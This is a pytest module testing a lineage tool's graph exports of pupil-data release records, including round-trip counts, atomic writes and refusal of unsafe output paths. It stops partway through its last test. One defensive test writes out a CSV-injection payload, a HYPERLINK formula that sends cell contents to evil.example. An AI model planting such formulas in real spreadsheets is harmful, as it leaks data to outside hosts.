"""Exports of the fixture graph on both stores, each read back with its own format's reader; and of the real
graph on the embedded store.

The expected counts, kinds, citation and certainties are read off the drawing in tests/fixture_graph.py by
hand, and the real graph's releases, items and a citation from the bundled CSVs: never from an export. The
real graph's totals by kind are a round trip, the store's own counts: what the store holds, the export holds.
"""

from __future__ import annotations

import csv
import errno
import json
import os
import re
import socket
import stat
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import IO, Any
from urllib.parse import unquote

import networkx as nx
import pandas as pd
import pytest

from lineage import exports, files
from lineage.cli import main
from lineage.errors import NotFound
from lineage.exports import ExportError, export
from lineage.model import Citation, Edge, EdgeKind, Node, NodeKind
from lineage.store import QueryError, Store
from lineage.stores.memory import MemoryStore
from tests import fixture_graph as g
from tests.sources import disputed_rows

ROOT = Path(__file__).resolve().parents[2]

NODE_KINDS = Counter(
    School=3, Collection=1, Dataset=2, DataItem=2, Concept=1, Classification=1, Release=2, Approval=1, Organisation=3
)
EDGE_KINDS = Counter(
    SUCCEEDED_BY=2, SUBMITS=2, FEEDS=2, HOLDS=2, REPRESENTS=2, CLASSIFIED_AS=1, INCLUDES=3, APPROVED_BY=1,
    SENT_TO=2, SHARES_ONWARD=3,
)  # fmt: skip
CITATION = {
    "document": "Conformance fixture (fictional)",
    "file": "tests/fixture_graph.py",
    "row": 1,
    "address": "tests/fixture_graph.py",
}
# Within hops of R1 in both directions, from the drawing: R1 includes I1 and I2, is approved by A1, sent to O1;
# then I2's data set D2, concept K, class CL and other release R2; I1's data set D1; O1's onward partner O2.
DEPTH_1 = {g.R1, g.I1, g.I2, g.A1, g.O1}
DEPTH_2 = DEPTH_1 | {g.D1, g.D2, g.K, g.CL, g.R2, g.O2}
EDGES_DEPTH_2 = {
    (g.R1, "INCLUDES", g.I1), (g.R1, "INCLUDES", g.I2), (g.R1, "APPROVED_BY", g.A1), (g.R1, "SENT_TO", g.O1),
    (g.D1, "HOLDS", g.I1), (g.D2, "HOLDS", g.I2), (g.I1, "REPRESENTS", g.K), (g.I2, "REPRESENTS", g.K),
    (g.I2, "CLASSIFIED_AS", g.CL), (g.O1, "SHARES_ONWARD", g.O2), (g.O2, "SHARES_ONWARD", g.O1),
    (g.O2, "SHARES_ONWARD", g.O2), (g.R2, "INCLUDES", g.I2), (g.R2, "SENT_TO", g.O2),
}  # fmt: skip


@dataclass
class ReadBack:
    """What a reader found: nodes by id and edges by (source, kind, target), each with its fields as text."""

    nodes: dict[str, dict[str, Any]]
    edges: dict[tuple[str, str, str], dict[str, Any]]


def _joined(said: Any) -> str | None:
    """Statement ids as the flat formats write them ("a; b"), where a format gives a list; none as None."""
    return "; ".join(said) if isinstance(said, list) else said or None


def _fields(data: dict[str, Any], citations: list[dict[str, Any]]) -> dict[str, Any]:
    return {
        "kind": data.get("kind"),
        "name": data.get("name"),
        "certainty": data.get("certainty"),
        "rule": data.get("rule") or None,
        "valid_from": data.get("valid_from") or None,
        "outranked_by": _joined(data.get("outranked_by")),
        "contested": _joined(data.get("contested")),
        "citations": citations,
    }


def read_graph(graph: nx.Graph) -> ReadBack:
    nodes = {n: _fields(d, json.loads(d["citations"])) for n, d in graph.nodes(data=True)}
    edges = {(s, d["kind"], t): _fields(d, json.loads(d["citations"])) for s, t, d in graph.edges(data=True)}
    return ReadBack(nodes, edges)


def read_cytoscape(path: Path) -> ReadBack:
    elements = json.loads(path.read_text(encoding="utf-8"))["elements"]
    nodes = {n["data"]["id"]: _fields(n["data"], n["data"]["citations"]) for n in elements["nodes"]}
    edges = {
        (e["data"]["source"], e["data"]["kind"], e["data"]["target"]): _fields(e["data"], e["data"]["citations"])
        for e in elements["edges"]
    }
    return ReadBack(nodes, edges)


def read_csv(path: Path) -> ReadBack:
    nodes = pd.read_csv(path / "nodes.csv", dtype=str, keep_default_na=False)
    edges = pd.read_csv(path / "edges.csv", dtype=str, keep_default_na=False)
    return ReadBack(
        {row["id"]: _fields(row, json.loads(row["citations"])) for row in nodes.to_dict("records")},
        {
            (r["source"], r["kind"], r["target"]): _fields(r, json.loads(r["citations"]))
            for r in edges.to_dict("records")
        },
    )


# PROV names an edge's target first ("the data set wasDerivedFrom the collection") for these kinds, its source
# first for the others ("the sharing used the item", "the item wasInfluencedBy its concept").
PROV_TARGET_FIRST = {"SUBMITS", "FEEDS", "HOLDS", "SUCCEEDED_BY", "SHARES_ONWARD", "FLOWS_TO"}


def _prov_id(qname: Any) -> str:
    prefix, local = qname.namespace.prefix, unquote(qname.localpart)
    return f"Release:{local}" if prefix == "share" else f"{prefix}:{local}"


def _prov_values(record: Any, name: str) -> list[Any]:
    return sorted(record.get_attribute(f"lineage:{name}"), key=str)


def _prov_fields(record: Any) -> dict[str, Any]:
    data = {name: next(iter(_prov_values(record, name)), None) for name in ("kind", "certainty", "rule", "valid_from")}
    data["name"] = next(iter(record.get_attribute("prov:label")), None)
    return _fields(data, [json.loads(c) for c in _prov_values(record, "citation")])


def read_prov(path: Path) -> ReadBack:
    from prov.model import ProvDocument, ProvElement, ProvRelation

    document = ProvDocument.deserialize(str(path), format="json")
    nodes, edges = {}, {}
    for record in document.get_records():
        if isinstance(record, ProvElement) and record.identifier.namespace.prefix != "share":
            nodes[_prov_id(record.identifier)] = _prov_fields(record)
        elif isinstance(record, ProvElement):  # a sharing: the inclusions statements outrank are said on it
            for said in map(json.loads, _prov_values(record, "left_out")):
                if "kind" in said:
                    edges[(_prov_id(record.identifier), said["kind"], said["item"])] = _fields(said, said["citations"])
        elif isinstance(record, ProvRelation) and record.get_attribute("lineage:kind"):
            first, second = (_prov_id(value) for _, value in record.formal_attributes[:2])
            fields = _prov_fields(record)
            source, target = (second, first) if fields["kind"] in PROV_TARGET_FIRST else (first, second)
            edges[(source, fields["kind"], target)] = fields
    return ReadBack(nodes, edges)


READERS: dict[str, Callable[[Path], ReadBack]] = {
    "graphml": lambda path: read_graph(nx.read_graphml(path)),
    "gexf": lambda path: read_graph(nx.read_gexf(path)),
    "cytoscape": read_cytoscape,
    "csv": read_csv,
    "prov-json": read_prov,
}


#: Formats of events, not of the whole graph: each is read back in a module of its own.
EVENT_FORMATS = {"openlineage"}  # tests/lineage/test_openlineage_export.py


def test_every_format_has_a_reader_here() -> None:
    assert set(READERS) | EVENT_FORMATS == set(exports.EXPORT_FORMATS)


@pytest.mark.parametrize("fmt", list(READERS))
def test_the_whole_fixture_graph_reads_back(fixture_store: Store, tmp_path: Path, fmt: str) -> None:
    subgraph, _ = export(fixture_store, fmt, tmp_path / "out", None, None)
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no temporary file or directory left beside it
    read = READERS[fmt](tmp_path / "out")
    assert (len(read.nodes), len(read.edges)) == (16, 20) == (len(subgraph.nodes), len(subgraph.edges))
    assert Counter(n["kind"] for n in read.nodes.values()) == NODE_KINDS
    assert Counter(kind for _, kind, _ in read.edges) == EDGE_KINDS
    # names with quotes, backticks, an ampersand and non-Latin letters come back as they were
    assert read.nodes[g.O1]["name"] == g.O1_NAME and read.nodes[g.O2]["name"] == g.O2_NAME
    assert read.nodes[g.O1]["citations"] == [CITATION]
    assert read.edges[(g.S1, "SUCCEEDED_BY", g.S2)]["citations"] == [CITATION]
    assert read.edges[(g.S1, "SUCCEEDED_BY", g.S2)]["valid_from"] == "2015-09-01"
    # a tier approval reaches I1 at tier level; the release names I2 outright
    assert read.edges[(g.R1, "INCLUDES", g.I1)]["certainty"] == "tier_level"
    assert read.edges[(g.R1, "INCLUDES", g.I2)]["certainty"] == "confirmed"
    assert read.nodes[g.R1]["certainty"] == "confirmed"


@pytest.mark.parametrize("fmt", list(READERS))
def test_a_node_export_holds_the_nodes_within_its_depth(fixture_store: Store, tmp_path: Path, fmt: str) -> None:
    subgraph, _ = export(fixture_store, fmt, tmp_path / "out", g.R1, 2)
    read = READERS[fmt](tmp_path / "out")
    assert set(read.nodes) == DEPTH_2
    assert set(read.edges) == EDGES_DEPTH_2
    assert subgraph.beyond == 1  # the collection C feeds D1 and D2: three hops away
    assert "1 more nodes lie one hop further" in subgraph.describe()


def test_depth_one_and_the_whole_component(fixture_store: Store) -> None:
    one = exports.collect(fixture_store, g.R1, 1)
    assert {n.id for n in one.nodes} == DEPTH_1
    assert {(e.source, e.kind.value, e.target) for e in one.edges} == {
        (g.R1, "INCLUDES", g.I1), (g.R1, "INCLUDES", g.I2), (g.R1, "APPROVED_BY", g.A1), (g.R1, "SENT_TO", g.O1),
    }  # fmt: skip
    assert one.beyond == 6  # D1, D2, K, CL, R2, O2
    # five hops reach every node but O3, which stands alone
    five = exports.collect(fixture_store, g.R1, 5)
    assert {n.id for n in five.nodes} == {n.id for n in g.NODES} - {g.O3}
    assert len(five.edges) == 20 and five.beyond == 0 and not five.cut
    assert "nothing lies beyond" in five.describe()


def test_an_export_cut_by_the_safety_bound_says_so(
    fixture_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports.subgraph, "MAX_VISITED", 3)
    subgraph, _ = export(fixture_store, "graphml", tmp_path / "out.graphml", g.R1, 2)
    assert subgraph.cut and "CUT" in subgraph.describe()
    graph = nx.read_graphml(tmp_path / "out.graphml")
    assert graph.graph["cut"] is True and "CUT" in graph.graph["description"]
    assert set(graph.nodes) == DEPTH_1  # the first level was walked whole before the bound stopped the second


def test_prov_models_the_release_as_entity_and_sharing(fixture_store: Store, tmp_path: Path) -> None:
    from prov.model import ProvDocument, ProvElement, ProvGeneration

    export(fixture_store, "prov-json", tmp_path / "out.json")
    document = ProvDocument.deserialize(str(tmp_path / "out.json"), format="json")
    elements = {str(r.identifier): r for r in document.get_records(ProvElement)}
    types = {_prov_id(r.identifier): type(r).__name__ for r in elements.values()}
    assert [types[id_] for id_ in (g.O1, g.O2, g.O3)] == ["ProvAgent"] * 3
    assert [types[id_] for id_ in (g.R1, g.I1, g.D1, g.C, g.S1, g.K)] == ["ProvEntity"] * 6
    assert types[g.A1] == "ProvActivity"
    sharing = elements["share:DR130220.01"]
    assert type(sharing).__name__ == "ProvActivity"
    # R1's date is the date as cited, not the time of the sharing: an attribute, never a PROV time
    assert _prov_values(sharing, "date_as_cited") == ["2013-02-20"]
    assert not sharing.get_attribute("prov:startTime") and not sharing.get_attribute("prov:endTime")
    assert _prov_values(sharing, "certainty") == ["confirmed"]
    assert [json.loads(c) for c in _prov_values(sharing, "citation")] == [CITATION]
    assert _prov_values(elements["share:DS00001"], "date_as_cited") == []  # R2 has no date in the drawing
    generated = [r for r in document.get_records(ProvGeneration) if _prov_id(r.formal_attributes[0][1]) == g.R1]
    assert len(generated) == 1 and str(generated[0].formal_attributes[1][1]) == "share:DR130220.01"
    assert not generated[0].get_attribute("prov:time")
    assert _prov_values(generated[0], "certainty") == ["confirmed"]
    assert [json.loads(c) for c in generated[0].get_attribute("lineage:citation")] == [CITATION]
    assert "Time" not in (tmp_path / "out.json").read_text(encoding="utf-8")  # no startTime, endTime or time
    kinds_by_relation = Counter(
        (type(r).__name__, next(iter(r.get_attribute("lineage:kind")))) for r in document.get_records()
        if r.is_relation() and r.get_attribute("lineage:kind")
    )  # fmt: skip
    assert kinds_by_relation == {
        ("ProvUsage", "INCLUDES"): 3, ("ProvCommunication", "APPROVED_BY"): 1, ("ProvAssociation", "SENT_TO"): 2,
        ("ProvDerivation", "SUBMITS"): 2, ("ProvDerivation", "FEEDS"): 2, ("ProvDerivation", "HOLDS"): 2,
        ("ProvInfluence", "SHARES_ONWARD"): 3, ("ProvInfluence", "SUCCEEDED_BY"): 2,
        ("ProvInfluence", "REPRESENTS"): 2, ("ProvInfluence", "CLASSIFIED_AS"): 1,
    }  # fmt: skip
    recipients = [r for r in document.get_records() if type(r).__name__ == "ProvAssociation"]
    assert {str(v) for r in recipients for v in r.get_attribute("prov:role")} == {"lineage:recipient"}


def test_prov_never_says_a_release_used_an_item_a_statement_excludes(memory_real: MemoryStore, tmp_path: Path) -> None:
    """BBC Newsnight's 2014 release was approved for tier 1 or 2 data, and DfE's written answer says it held no
    name: in PROV its sharing does not use KS4_SURNAME (tier 1), and nothing is said to have happened to it (it had
    been "invalidated" by the sharing, an event no source gives): the sharing says it left it out, naming the
    answer, with the tier rule's inclusion as it is."""
    from prov.model import ProvActivity, ProvDocument, ProvInvalidation, ProvUsage

    register = _register()
    (newsnight,) = [r for r in register if r["organisation"] == "BBC Newsnight"]
    assert "tier 1 or tier 2" in newsnight["status_as_cited"]
    # its key: the register and date, and the organisation as cited
    release = f"Release:npd-third-party-requests-pre-dsap/{newsnight['date_as_cited']}/bbc-newsnight"
    export(memory_real, "prov-json", tmp_path / "newsnight.json", release, 1)
    document = ProvDocument.deserialize(str(tmp_path / "newsnight.json"), format="json")
    used = {
        (_prov_id(r.formal_attributes[0][1]), _prov_id(r.formal_attributes[1][1]))
        for r in document.get_records(ProvUsage)
    }
    surname = "DataItem:KS4/KS4_SURNAME"
    assert (release, surname) not in used and used  # what no statement excludes is still used at tier level
    assert not list(document.get_records(ProvInvalidation))
    (sharing,) = [r for r in document.get_records(ProvActivity) if _prov_id(r.identifier) == release]
    (left,) = [said for said in map(json.loads, _prov_values(sharing, "left_out")) if said["item"] == surname]
    (by,) = left["outranked_by"]
    assert by.startswith("Statement:bbc-newsnight/not_released/")
    assert (left["kind"], left["certainty"]) == ("INCLUDES", "tier_level")  # the inclusion as stored, outranked


@pytest.mark.parametrize("fmt", sorted(set(READERS) - {"prov-json"}))
def test_every_format_says_which_inclusions_a_statement_outranks_and_by_which_rule(
    memory_real: MemoryStore, tmp_path: Path, fmt: str
) -> None:
    """The auditor's reading of the exports: CSV, GraphML, GEXF and Cytoscape gave the Telegraph's 2013 release 232
    INCLUDES at tier level with no rule and nothing said of the 137 that DfE's written answer rules out (its key
    identifiers, and no highly sensitive item): a campaigner quoting them would say it got pupils' names. Each now
    says the tier rule and, on an outranked inclusion, the statements that outrank it (as PROV and the ledger do)."""
    (telegraph,) = [r for r in _register() if r["organisation"] == "Daily Telegraph"]
    release = f"Release:npd-third-party-requests-pre-dsap/{telegraph['date_as_cited']}/daily-telegraph"
    output = tmp_path / ("out" if fmt == "csv" else f"out.{fmt}")
    export(memory_real, fmt, output, release, 1)
    included = {t.rsplit("/", 1)[-1]: e for (s, k, t), e in READERS[fmt](output).edges.items() if k == "INCLUDES"}
    assert included and all(e["rule"] == "tier-level" and e["certainty"] == "tier_level" for e in included.values())
    with open(ROOT / "data" / "npd_data_items_2018.csv", newline="", encoding="utf-8") as handle:
        items = [r for r in csv.DictReader(handle) if r["npd_alias"] in included]
    ruled_out = {r["npd_alias"] for r in items if r["sensitivity"] == "B" or r["npd_alias"] == "KS4_SURNAME"}
    # and those populated only before the years its source gives its data ("2008-2012": 2007/08 on)
    ends: dict[str, set[int]] = {}  # an alias's last years, by row (9999: still populated)
    for r in items:
        end = r["years_populated"].partition(" - ")[2][:4]
        ends.setdefault(r["npd_alias"], set()).add(int(end) if end.isdigit() else 9999)
    bounded = {alias for alias, last in ends.items() if max(last) < 2007} - ruled_out
    # and those of other data sets than its source names ("census data for KS2, KS4 and KS5 datasets")
    named = ("KS2_", "KS4", "KS5_", "SC_Pupil_", "census")
    bounded |= {r["npd_alias"] for r in items if not r["sheet"].startswith(named)} - ruled_out
    plain = {r["npd_alias"] for r in items if r["identifiability"] == "5" and r["sensitivity"] == "E"} - ruled_out
    plain -= bounded
    assert ruled_out and plain and bounded
    assert all("not_released" in str(included[alias]["outranked_by"]) for alias in ruled_out)
    assert all("/released/" in str(included[alias]["outranked_by"]) for alias in bounded)
    assert all(included[alias]["outranked_by"] is None for alias in plain)


@pytest.mark.parametrize("fmt", sorted(set(READERS) - {"prov-json"}))
def test_every_format_says_which_outranking_statements_another_source_contests(
    memory_real: MemoryStore, tmp_path: Path, fmt: str
) -> None:
    """The twelfth reading: CSV, GraphML, GEXF and Cytoscape named the statements outranking an inclusion but not
    that DfE's written answer on the Telegraph's 2013 release (npd_release_scope_statements.csv row 10) is disputed
    by the accounts of its FOI answer (data/conflicts.csv), as PROV's and OpenLineage's left_out say: a campaigner
    quoting the CSV would state the names as settled left out. BBC Newsnight's answer (row 16) no source disputes."""
    disputed = disputed_rows("npd_release_scope_statements.csv")
    assert 10 in disputed and 16 not in disputed
    register = _register()
    for register_row, statement_row in ((3, 10), (10, 16)):
        entry = register[register_row - 2]
        assert entry["organisation"] in ("Daily Telegraph", "BBC Newsnight")
        name = entry["organisation"].lower().replace(" ", "-")
        release = f"Release:npd-third-party-requests-pre-dsap/{entry['date_as_cited']}/{name}"
        (stating,) = [
            node.id
            for node in memory_real.all_nodes(NodeKind.STATEMENT)
            if "not_released/key-identifiers" in node.id
            and any((c.file, c.row) == ("npd_release_scope_statements.csv", statement_row) for c in node.citations)
        ]
        output = tmp_path / (f"{statement_row}" if fmt == "csv" else f"{statement_row}.{fmt}")
        export(memory_real, fmt, output, release, 1)
        outranked = [e for e in READERS[fmt](output).edges.values() if stating in (e["outranked_by"] or "")]
        assert outranked, statement_row
        for said in outranked:
            contested = set((said["contested"] or "").split("; ")) - {""}
            assert contested <= set(said["outranked_by"].split("; ")), statement_row
            assert (stating in contested) is (statement_row in disputed), (statement_row, said["outranked_by"])


def test_an_unknown_node_is_an_error_and_writes_nothing(fixture_store: Store, tmp_path: Path) -> None:
    with pytest.raises(NotFound, match="Release:nope"):
        export(fixture_store, "graphml", tmp_path / "out.graphml", "Release:nope", 2)
    assert list(tmp_path.iterdir()) == []


def test_bad_format_depth_and_path_are_errors_and_write_nothing(fixture_store: Store, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"unknown export format 'xml'.*graphml"):
        export(fixture_store, "xml", tmp_path / "out.xml")
    for depth in (0, 11):
        with pytest.raises(QueryError, match="depth"):
            export(fixture_store, "graphml", tmp_path / "out.graphml", g.R1, depth)
    with pytest.raises(QueryError, match="give the node"):
        export(fixture_store, "graphml", tmp_path / "out.graphml", None, 2)
    with pytest.raises(ExportError, match=r"missing/out\.graphml"):
        export(fixture_store, "graphml", tmp_path / "missing" / "out.graphml")
    assert list(tmp_path.iterdir()) == []


def test_a_failed_write_leaves_the_old_files(
    fixture_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full_disk(subgraph: exports.Subgraph, handle: IO[bytes]) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    out = tmp_path / "csv"
    out.mkdir()
    (out / "nodes.csv").write_text("old")
    monkeypatch.setitem(exports.EXPORT_FORMATS["csv"], "edges.csv", full_disk)
    with pytest.raises(ExportError, match=r"edges\.csv: No space left"):
        export(fixture_store, "csv", out)
    assert sorted(p.name for p in out.iterdir()) == ["nodes.csv"]  # no edges file, no temporary file
    assert (out / "nodes.csv").read_text() == "old"


def test_a_failed_rename_puts_the_old_files_back(
    fixture_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "csv"
    out.mkdir()
    (out / "nodes.csv").write_text("old nodes")
    (out / "edges.csv").write_text("old edges")
    (out / "notes.txt").write_text("mine")
    replace = os.replace

    def edges_fail(source: Any, target: Any) -> None:  # the new edges file cannot go in; the old one can
        if Path(source).name == "edges.csv" and Path(target) == out / "edges.csv":
            raise OSError(errno.EIO, "Input/output error")
        replace(source, target)

    monkeypatch.setattr(files.os, "replace", edges_fail)
    with pytest.raises(ExportError, match=r"cannot write .*csv: Input/output error"):
        export(fixture_store, "csv", out)
    monkeypatch.undo()
    assert sorted(p.name for p in out.iterdir()) == ["edges.csv", "nodes.csv", "notes.txt"]  # nothing left over
    assert [(out / name).read_text() for name in ("nodes.csv", "edges.csv", "notes.txt")] == [
        "old nodes", "old edges", "mine",
    ]  # fmt: skip
    # and when nothing fails, both files are replaced and the other file stays
    export(fixture_store, "csv", out)
    assert sorted(p.name for p in out.iterdir()) == ["edges.csv", "nodes.csv", "notes.txt"]
    assert len(read_csv(out).nodes) == 16 and (out / "notes.txt").read_text() == "mine"


class Refused(Exception):
    """Not an OSError: a writer may fail in any way."""


def test_any_failure_is_an_export_error_and_leaves_no_directory(
    fixture_store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(subgraph: exports.Subgraph, handle: IO[bytes]) -> None:
        handle.write(b"half")
        raise Refused("the writer gave up")

    monkeypatch.setitem(exports.EXPORT_FORMATS["csv"], "edges.csv", refuse)
    with pytest.raises(ExportError, match=r"new/edges\.csv: the writer gave up"):
        export(fixture_store, "csv", tmp_path / "new")
    monkeypatch.setitem(exports.EXPORT_FORMATS, "gexf", {None: refuse})
    with pytest.raises(ExportError, match=r"out\.gexf: the writer gave up"):
        export(fixture_store, "gexf", tmp_path / "out.gexf")
    assert list(tmp_path.iterdir()) == []  # no directory, no file, no temporary one
    monkeypatch.undo()
    export(fixture_store, "csv", tmp_path / "new")  # a new directory is made whole, readable like any other
    assert stat.S_IMODE((tmp_path / "new").stat().st_mode) == 0o755
    assert sorted(p.name for p in (tmp_path / "new").iterdir()) == ["edges.csv", "nodes.csv"]


def _socket(path: Path) -> None:
    with socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(path))  # the file stays when the socket closes


#: How to make, at a path, something that is not a regular file, by what the refusal calls it (no device: a test
#: must never point at one).
SPECIAL_FILES: dict[str, Callable[[Path], object]] = {
    "a symbolic link": lambda path: path.symlink_to(path.with_name("target")),
    "a FIFO (named pipe)": os.mkfifo,
    "a socket": _socket,
    "a directory": Path.mkdir,
}


@pytest.mark.parametrize("what", list(SPECIAL_FILES))
@pytest.mark.parametrize("fmt", ["gexf", "csv"])
def test_an_output_that_is_not_a_regular_file_is_refused_and_left_as_it_was(
    tmp_path: Path, fmt: str, what: str
) -> None:
    """A rename once replaced a link (its target untouched), a FIFO or a device with a regular file, exit 0."""
    out = tmp_path / "out"
    if fmt == "csv":  # into an existing directory, whose nodes.csv is the special file
        out.mkdir()
    special = out / "nodes.csv" if fmt == "csv" else out
    special.with_name("target").write_text("mine")  # a link's target
    SPECIAL_FILES[what](special)
    before = sorted(tmp_path.rglob("*"))
    mode = special.lstat().st_mode
    with pytest.raises(ExportError, match=f"cannot write {re.escape(str(special))}: it is {re.escape(what)}, not a"):
        export(_one_release("O"), fmt, out)
    assert special.lstat().st_mode == mode and special.with_name("target").read_text() == "mine"
    assert sorted(tmp_path.rglob("*")) == before  # no temporary file left, nothing written beside


def _one_release(name: str, link_type: str = "Successor") -> MemoryStore:
    """A hand-made release sent to one organisation named ``name``; the link's type is ``link_type``."""
    cite = Citation("Export fixture (fictional)", "tests/lineage/test_exports.py", 1, "tests/lineage/test_exports.py")
    organisation = Node(
        NodeKind.ORGANISATION, "o1", name, {"org_type": "commercial"}, frozenset({cite}), synthetic=True
    )
    release = Node(NodeKind.RELEASE, "R1", "R1", {"reference": "R1"}, frozenset({cite}), synthetic=True)
    store = MemoryStore()
    store.write(
        [organisation, release],
        [Edge(release.id, EdgeKind.SENT_TO, organisation.id, {"link_type": link_type}, frozenset({cite}))],
    )
    return store


def test_a_lone_surrogate_is_an_export_error_where_the_file_is_utf8_text(tmp_path: Path) -> None:
    store = _one_release("Bad \udc80 name")  # no UTF-8 text can hold it
    for fmt in ("cytoscape", "csv"):
        with pytest.raises(ExportError, match=f"cannot write {re.escape(str(tmp_path / fmt))}"):
            export(store, fmt, tmp_path / fmt)
    assert list(tmp_path.iterdir()) == []
    export(store, "prov-json", tmp_path / "prov.json")  # JSON escapes it as \udc80, and reads it back
    assert read_prov(tmp_path / "prov.json").nodes["Organisation:o1"]["name"] == "Bad \udc80 name"
    for fmt in ("graphml", "gexf"):  # XML cannot carry it: written as the six characters \udc80
        export(store, fmt, tmp_path / fmt)
        assert READERS[fmt](tmp_path / fmt).nodes["Organisation:o1"]["name"] == "Bad \\udc80 name"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_start_like_a_formula_are_written_as_text(tmp_path: Path, start: str) -> None:
    """OWASP's CSV injection: a spreadsheet runs a cell starting with any of these; with a quote first, it shows
    the text. The export reads from a store whatever its kind, so the embedded store stands for both."""
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"Open")'
    export(_one_release(formula, link_type=f"{start}1+1"), "csv", tmp_path / "out")
    with (tmp_path / "out" / "nodes.csv").open(encoding="utf-8", newline="") as handle:
        names = {row["id"]: row["name"] for row in csv.DictReader(handle)}
    assert names == {"Organisation:o1": "'" + formula, "Release:R1": "R1"}
    with (tmp_path / "out" / "edges.csv").open(encoding="utf-8", newline="") as handle:
        assert [row["link_type"] for row in csv.DictReader(handle)] == [f"'{start}1+1"]
    cells = (tmp_path / "out" / "nodes.csv").read_text(encoding="utf-8").replace('"', "").replace("\n", ",")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells.split(","))


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_keeps_the_characters_it_can_carry(tmp_path: Path, fmt: str) -> None:
    """A tab, a line feed and a letter beyond the Basic Multilingual Plane are XML characters, kept as they are
    (those XML cannot carry: tests/lineage/test_xml_safety.py)."""
    export(_one_release("A\tB\nC 𠮷"), fmt, tmp_path / "out")
    assert READERS[fmt](tmp_path / "out").nodes["Organisation:o1"]["name"] == "A\tB\nC 𠮷"


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_edge_ids_are_the_model_s_edge_ids(fixture_store: Store, tmp_path: Path, fmt: str) -> None:
    export(fixture_store, fmt, tmp_path / "out")
    ids = [e.get("id") for e in ET.parse(tmp_path / "out").getroot().iter() if e.tag.rpartition("}")[2] == "edge"]
    assert len(ids) == len(set(ids)) == 20
    assert set(ids) == {edge.id for edge in g.EDGES}  # "<source>|<KIND>|<target>", each once
    assert f"{g.R1}|INCLUDES|{g.I1}" in ids


def test_the_command_says_what_it_wrote(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store = MemoryStore()
    store.write(g.NODES, g.EDGES)
    store.save(tmp_path / "graph.snapshot")
    address = f"memory:{tmp_path / 'graph.snapshot'}"
    out = tmp_path / "r1.gexf"
    assert (
        main(["export", "--format", "gexf", "--output", str(out), "--node", g.R1, "--depth", "1", "--store", address])
        == 0
    )
    said = capsys.readouterr().out
    assert str(out) in said and "5 nodes and 4 edges" in said and "6 more nodes lie one hop further" in said
    assert set(nx.read_gexf(out).nodes) == DEPTH_1
    assert (
        main(["export", "--format", "csv", "--output", str(tmp_path / "x"), "--node", "Nope:1", "--store", address])
        == 1
    )
    assert "no node has the id 'Nope:1'" in capsys.readouterr().err
    assert not (tmp_path / "x").exists()


@pytest.mark.parametrize(
    "command",
    [["export", "--format", "gexf", "--node", g.R1], ["report", "release", "DR130220.01"], ["claims"]],
    ids=lambda command: command[0],
)
@pytest.mark.parametrize("own", ["graph.snapshot", "graph.snapshot.lock"])
def test_a_command_refuses_to_write_over_its_store_s_snapshot_or_lock(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: list[str], own: str
) -> None:
    """`lineage export --store memory:X --output X` once replaced the snapshot with the export, exit 0: the
    store was lost. The path is spelled another way, as a user may."""
    snapshot = tmp_path / "graph.snapshot"
    with MemoryStore.writing(snapshot) as written:  # the lock file is there too, as after any import
        written.write(g.NODES, g.EDGES)
    before = {path.name: path.read_bytes() for path in tmp_path.iterdir()}
    (tmp_path / "sub").mkdir()
    output = tmp_path / "sub" / ".." / own
    assert main([*command, "--output", str(output), "--store", f"memory:{snapshot}"]) == 1
    error = capsys.readouterr().err
    assert error.startswith(f"lineage: cannot write {output}: it is the ") and f"(memory:{snapshot})" in error
    assert {path.name: path.read_bytes() for path in tmp_path.iterdir() if path.is_file()} == before
    assert MemoryStore.load(snapshot).counts().total_nodes == len(g.NODES)


# ---- the real graph ----------------------------------------------------------------------------------


def _register() -> list[dict[str, str]]:
    with open(ROOT / "data" / "npd_register_entries_cited_in_foi.csv", newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_the_real_graph_exports_whole_as_csv(memory_real: MemoryStore, tmp_path: Path) -> None:
    """A round trip: the export holds every node and edge the store holds, by kind. Independently of the
    store, the releases are the register's entries not rejected, the items the data tables' item rows
    (sub-table headings left out, a row repeated word for word once), and DR170518.02 cites its register row."""
    subgraph, _ = export(memory_real, "csv", tmp_path / "real")
    read = read_csv(tmp_path / "real")
    counts = memory_real.counts()
    assert Counter(n["kind"] for n in read.nodes.values()) == counts.nodes
    assert Counter(kind for _, kind, _ in read.edges) == counts.edges
    assert len(read.nodes) > 30_000 and len(read.edges) > 25_000 and subgraph.start is None
    register = _register()
    more = list(csv.DictReader((ROOT / "data" / "npd_register_entries_more.csv").open(encoding="utf-8")))
    # every register row is an application; a release is drawn where its status says data went (approved
    # or listed as recipient; of the new file only the Home Office's monthly exchange gives a release)
    referenced = {r["reference"] for r in register if r["reference"]}
    assert counts.nodes["Application"] == len(register) + len([r for r in more if r["reference"] not in referenced])
    sent = ("approved", "listed as recipient")
    assert counts.nodes["Release"] == len([r for r in register if r["status_as_cited"].startswith(sent)]) + 1
    with open(ROOT / "data" / "npd_data_items_2018.csv", newline="", encoding="utf-8") as handle:
        items = [r for r in csv.DictReader(handle) if r["field_reference"].strip() or r["description"].strip()]
    with open(ROOT / "data" / "npd_concept_categories_2019.csv", newline="", encoding="utf-8") as handle:
        concept_aliases = {r["npd_alias"] for r in csv.DictReader(handle) if r["concept"].strip()}
    unlisted = concept_aliases - {r["npd_alias"] for r in items}  # known from the concepts file alone
    assert counts.nodes["DataItem"] == len({tuple(r.values()) for r in items}) + len(unlisted)
    row = next(r for r in register if r["reference"] == "DR170518.02")
    release = read.nodes["Release:DR170518.02"]
